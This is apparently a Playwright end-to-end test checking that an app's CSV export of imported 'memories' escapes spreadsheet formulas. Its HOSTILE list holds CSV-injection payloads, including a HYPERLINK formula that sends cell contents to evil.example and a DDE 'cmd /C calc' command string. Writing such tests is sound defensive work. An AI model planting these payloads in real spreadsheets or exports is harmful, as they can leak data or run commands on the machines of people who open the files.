import { readFileSync } from 'node:fs'
import AxeBuilder from '@axe-core/playwright'
import { expect, test } from '@playwright/test'
import { unguard } from '../../src/core/csv.ts'
import { buildManifest, ISSUER } from '../reference/writer.ts'
import { recordsOf, RUN_BY_SPREADSHEET } from './payloads.ts'
import { openProfile } from './profile.ts'
import { download, fileOf, goTo, importOpened, openApp, openFile, trustKey } from './steps.ts'

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open the report")',
  '+1+1',
  '-2+3+cmd|’ /C calc’!A0',
  '@SUM(1)',
  '\t=1',
  '\r\n=1',
  '  =1',
  '＝1+1',
  'x;=1+1',
  'https://evil.example',
  '\\\\evil.example\\share',
  'mailto:a@evil.example',
]

test('the list that is shown is saved as CSV, and nothing in it runs in a spreadsheet', async () => {
  const { page, problems, close } = await openProfile(test.info().outputPath('profile'))
  await openApp(page)
  await goTo(page, 'Memories')
  await expect(page.getByRole('button', { name: 'Save as CSV' })).toHaveCount(0)
  await trustKey(page, ISSUER.pem, '=1+1')
  const memories = [
    ...HOSTILE.map((content, i) => ({ content, entity_id: 'hostile', tags: ['=tag', `@${i}`] })),
    { content: 'plain', entity_id: 'other' },
  ]
  await openFile(page, fileOf('=file.json', buildManifest({ memories }).bytes))
  await importOpened(page)

  await goTo(page, 'Memories')
  await page.getByRole('button', { name: 'Filter' }).click()
  await page.getByLabel('Entity').selectOption('hostile')
  await expect(page.getByTestId('count')).toHaveText(`${HOSTILE.length} of ${memories.length} memories`)
  await page.getByRole('button', { name: 'Save as CSV' }).click()
  const dialog = page.getByRole('dialog')
  await expect(dialog).toContainText('signed by nobody')
  expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([])
  const { download: saved, path } = await download(page, () =>
    dialog.getByRole('button', { name: 'Save the list' }).click(),
  )
  await expect(dialog).toHaveCount(0)
  expect(saved.suggestedFilename()).toMatch(/^memories-\d{4}-\d\d-\d\d\.csv$/)

  const text = readFileSync(path, 'utf8').replace(/^\ufeff/, '')
  const [, ...rows] = recordsOf(text)
  expect(rows).toHaveLength(HOSTILE.length)
  for (const separator of [',', ';', '\t'])
    for (const cell of recordsOf(text, separator).flat()) expect(cell).not.toMatch(RUN_BY_SPREADSHEET)
  expect(new Set(rows.map((row) => unguard(row[4]!)))).toEqual(new Set(HOSTILE))
  expect(rows.every((row) => row[7] === `'=1+1` && row[10] === `'=file.json`)).toBe(true)
  expect(problems).toEqual([])
  await close()
})
